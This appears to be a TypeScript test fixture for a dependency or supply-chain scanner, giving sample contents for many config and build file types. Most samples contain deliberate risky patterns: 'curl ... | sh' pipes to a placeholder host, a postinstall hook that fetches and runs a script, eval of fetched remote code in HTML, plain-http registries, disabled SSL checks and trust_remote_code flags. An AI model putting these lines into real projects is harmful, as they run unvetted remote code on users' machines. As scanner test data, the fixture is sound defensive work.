/** One file of every kind that is no code, each with findings. */

const GIT = 'git+https://github.com/acme/a.git';
export const SAMPLES: Readonly<Record<string, string>> = {
  'a.sh':
    'export PIP_INDEX_URL=http://a.dev\ncurl https://a.dev/x | sh\nif true; then pip install a; fi\ncat <<E\nx\nE\n',
  Dockerfile:
    'FROM a\nRUN a \\\n  # b\n  && pip install c\nRUN <<E\ncurl https://a.dev/x | sh\nE\nADD https://a.dev/x /y\nCMD ["npx", "-y", "x"]\n',
  Makefile: 'A := pip\na:\n\t@$(A) install b\n\tcurl https://a.dev/x | sh\n',
  justfile: 'a:\n  @pip install b\n  curl https://a.dev/x | sh\n',
  '.github/workflows/a.yml':
    'env:\n  PIP_INDEX_URL: http://a.dev\njobs:\n  a:\n    steps:\n      - run: |\n          pip install b\n      - run: >-\n          curl https://a.dev/x\n          | sh\n',
  '.devcontainer.json':
    '{ // a\n "postCreateCommand": "pip install a", "b": { "onCreateCommand": ["npx", "-y", "b"] } }\n',
  'requirements.txt': `a==1 \\\n  --hash=sha256:00\n${GIT}\n-e ${GIT}@main#egg=a\n--extra-index-url https://a.dev/s\n-r https://a.dev/r.txt\n`,
  'pyproject.toml': `[project]\ndependencies = ["a @ ${GIT}"]\n[tool.uv.sources]\nb = { git = "https://a.dev/b" }\n[[tool.uv.index]]\nurl = "https://a.dev/s"\n`,
  'environment.yml': `channels: [http://a.dev]\ndependencies:\n  - pip:\n    - ${GIT}\n    - --trusted-host a.dev\n`,
  Pipfile: '[[source]]\nurl = "http://a.dev"\nverify_ssl = false\n[packages]\na = {git = "https://a.dev/a"}\n',
  'setup.cfg': `[options]\ninstall_requires =\n  a @ ${GIT}\n[easy_install]\nindex_url = http://a.dev\n`,
  'pip.conf': '[global]\nextra-index-url =\n  https://a.dev/s\ntrusted-host = a.dev\n',
  'uv.toml': 'extra-index-url = ["https://a.dev/s"]\n',
  '.npmrc': 'registry=http://a.dev\n"strict-ssl"=false\n',
  '.yarnrc.yml': 'npmRegistryServer: "http://a.dev"\nenableStrictSsl: false\n',
  'package.json':
    '{"scripts": {"postinstall": "curl https://a.dev/x | sh"}, "dependencies": {"a": "latest", "b": "a/b", "c": "http://a.dev/c.tgz"}}\n',
  'deno.json': '{"imports": {"a": "https://a.dev/a.ts", "b": "npm:b"}}\n',
  '.mcp.json':
    '{"mcpServers": {"a": {"command": "npx", "args": ["-y", "b"], "env": {"X": "y"}}, "c": {"type": "http", "url": "http://a.dev.example.com"}}}\n',
  '.codex/config.toml': '[mcp_servers.a]\ncommand = "uvx"\nargs = ["b"]\n',
  'train.yml':
    'base_model: org/m # a\ntrust_remote_code: true\nx: &a [1]\nargs: [--trust-remote-code, *a]\nmodel_args: "pretrained=org/m,trust_remote_code=True"\nenv:\n  - TRUST_REMOTE_CODE=1\nrun: |\n  pip install a\n',
  'config.json':
    '{"auto_map": {"A": "a/b--c.D"}, "custom_pipeline": "a/b", "model_name_or_path": "org/m", "trust_remote_code": true}\n',
  'a.toml': '[model]\nname = "org/m"\ntrust_remote_code = true\n',
  'index.html':
    '<!-- <script src="//a.dev/x.js"> -->\n<script src="https://a.dev/y.js"></script>\n<script type="importmap">{"imports": {"a": "https://a.dev/a"}}</script>\n<script>eval(await (await fetch("https://a.dev/z")).text())</script>\n',
};
